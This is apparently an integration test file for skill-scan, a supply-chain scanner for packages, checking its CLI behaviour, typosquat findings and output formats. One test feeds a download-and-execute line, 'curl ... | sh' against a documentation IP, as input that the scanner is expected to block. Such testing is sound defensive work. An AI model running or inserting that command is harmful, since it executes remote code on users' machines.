#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The command line as a newcomer from other tools meets it (issue 20): what the README promises about
//! commands and targets, the words of a reason, and the code line a finding shows.

use assert_cmd::Command;
use serde_json::Value;
use std::fs;
use std::path::Path;

fn skill_scan() -> Command {
    let mut command = Command::cargo_bin("skill-scan").expect("binary builds");
    command
        .env_remove("FORCE_COLOR")
        .env_remove("CLICOLOR_FORCE");
    command
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A typosquat: a name one edit from a popular package, and nothing else wrong.
fn typosquat(root: &Path) {
    write(
        root,
        "package.json",
        "{\n  \"name\": \"expresss\",\n  \"version\": \"4.19.2\",\n  \"main\": \"index.js\"\n}\n",
    );
    write(root, "index.js", "module.exports = {};\n");
}

#[test]
fn a_command_word_after_scan_options_is_a_usage_error_as_the_readme_says() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir(dir.path().join("rules")).unwrap();
    let out = skill_scan()
        .current_dir(dir.path())
        .args(["--format", "json", "rules"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stdout));
    let err = text(&out.stderr);
    assert!(err.contains("./rules"), "{err}");
    // Written as a path, the folder is scanned.
    let out = skill_scan()
        .current_dir(dir.path())
        .args(["--format", "json", "./rules"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
}

#[test]
fn a_typosquat_reason_does_not_claim_install_time_code() {
    let dir = tempfile::tempdir().unwrap();
    typosquat(dir.path());
    let out = skill_scan()
        .arg(dir.path())
        .args(["--format", "json"])
        .output()
        .unwrap();
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    let reasons = json["targets"][0]["reasons"].as_array().unwrap();
    let rationale = reasons[0]["rationale"].as_str().unwrap();
    assert!(rationale.contains("supply chain"), "{rationale}");
    assert!(!rationale.contains("installed"), "{rationale}");
}

#[test]
fn a_package_name_finding_shows_the_manifest_line_as_written() {
    let dir = tempfile::tempdir().unwrap();
    typosquat(dir.path());
    let out = skill_scan().arg(dir.path()).output().unwrap();
    let stdout = text(&out.stdout);
    assert!(stdout.contains("\"name\": \"expresss\","), "{stdout}");
}

const BLOCKED: &str = "../../corpus/malicious/npm/preinstall-curl-sh";
const BENIGN: &str = "../../corpus/benign/npm/git-status-cli";

#[test]
fn exit_zero_reports_the_block_but_exits_0() {
    let out = skill_scan()
        .args(["--exit-zero", "-q", BLOCKED])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(
        text(&out.stdout).starts_with("BLOCK "),
        "{}",
        text(&out.stdout)
    );
    assert!(text(&out.stdout).ends_with(": 2 findings\n"));
}

#[test]
fn completions_and_the_man_page_come_from_the_command_line_definition() {
    let out = skill_scan()
        .args(["generate", "completions", "bash"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let bash = text(&out.stdout);
    assert!(
        bash.contains("--exit-zero") && bash.contains("--output-sarif"),
        "{bash}"
    );
    let out = skill_scan().args(["generate", "man"]).output().unwrap();
    let man = text(&out.stdout);
    assert!(man.contains(".TH skill-scan 1"), "{man}");
    assert!(man.contains("exclude"), "{man}");
}

#[test]
fn a_dash_reads_a_target_list_or_one_file_from_standard_input() {
    let out = skill_scan()
        .args(["-q", "-"])
        .write_stdin(format!("# list\n{BENIGN}\n"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("git-status-cli (npm)"));
    let out = skill_scan()
        .args(["-q", "--stdin-filename", "install.sh", "-"])
        .write_stdin("curl -s http://203.0.113.7/x.sh | sh\n")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
    assert!(text(&out.stdout).starts_with("BLOCK  - "));
}

#[test]
fn exclude_leaves_out_matching_paths_and_lists_them_as_skipped() {
    let out = skill_scan()
        .args(["--format", "json", "--exclude", "package.json", BLOCKED])
        .output()
        .unwrap();
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    let target = &json["targets"][0];
    assert_eq!(target["verdict"], "allow");
    let skipped = target["skipped"].as_array().unwrap();
    assert!(skipped.iter().any(
        |s| s["path"] == "package.json" && s["reason"].as_str().unwrap().contains("--exclude")
    ));
    let out = skill_scan()
        .args(["--exclude", "a/[", BLOCKED])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn one_run_writes_markdown_and_sarif_with_any_thread_count() {
    let dir = tempfile::tempdir().unwrap();
    let sarif = dir.path().join("out.sarif");
    let out = skill_scan()
        .args(["-j", "1", "--format", "markdown", "--output-sarif"])
        .arg(&sarif)
        .arg(BLOCKED)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stdout).contains("skill-scan: BLOCK"));
    let log: Value = serde_json::from_str(&fs::read_to_string(&sarif).unwrap()).unwrap();
    assert_eq!(log["version"], "2.1.0");
    assert_eq!(
        log["runs"][0]["invocations"][0]["executionSuccessful"],
        true
    );
    assert!(!log["runs"][0]["results"].as_array().unwrap().is_empty());
}

#[test]
fn force_color_colours_a_pipe_and_no_color_does_not() {
    let out = skill_scan()
        .env("FORCE_COLOR", "1")
        .arg(BLOCKED)
        .output()
        .unwrap();
    assert!(text(&out.stdout).contains('\u{1b}'));
    let out = skill_scan()
        .env("CLICOLOR_FORCE", "0")
        .arg(BLOCKED)
        .output()
        .unwrap();
    assert!(!text(&out.stdout).contains('\u{1b}'));
}

#[test]
fn the_text_wraps_at_columns_and_names_the_rule_once_per_finding() {
    let out = skill_scan()
        .env("COLUMNS", "60")
        .arg(BLOCKED)
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    let findings = stdout.split("findings:").nth(1).unwrap();
    let block = findings.split("── summary").next().unwrap();
    // Prose wraps (a source line is shown whole, as miette draws it).
    let prose = |l: &&str| !l.contains(['│', '·', '╭', '╰']);
    assert!(
        block.lines().filter(prose).all(|l| l.chars().count() <= 60),
        "{block}"
    );
    assert!(block.contains("  help: "), "{block}");
    let first = block.split("SUP003").count() - 1;
    assert_eq!(first, 1, "SUP003 once: {block}");
}
